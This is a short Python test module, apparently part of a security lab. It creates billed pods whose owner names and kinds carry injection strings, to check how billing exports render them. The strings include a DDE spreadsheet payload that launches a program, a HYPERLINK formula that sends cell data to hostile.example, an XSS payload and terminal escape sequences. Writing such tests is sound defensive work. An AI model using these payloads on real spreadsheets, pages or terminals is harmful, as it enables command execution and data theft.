"""Owners that a spreadsheet would compute, a Markdown table would divide, or a terminal would obey."""

from labs.hostile.tenant import Tenant, owned, owner

NAME = "formulas"
TEXTS = (
    "=1+cmd|'/c calc'!A0",
    '=HYPERLINK("http://hostile.example/?"&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    'a",=1+1\n=1+1',
    "'=1+1",
    "a|b\\|c",
    "<img src=x onerror=alert(1)>",
    "\x1b]0;title\x07\x1b[2J",
)


async def attack(tenant: Tenant) -> None:
    """Create running pods with each text as the name and as the kind of their job, so that they are billed."""
    for number, text in enumerate(TEXTS):
        for kind, name in (("Job", text), (text, "x"), (text, text)):
            reference = owner(kind, name, f"formula-{number}-{len(kind)}-{len(name)}")
            await tenant.create(NAME, owned(tenant.running_pod("formula"), reference))
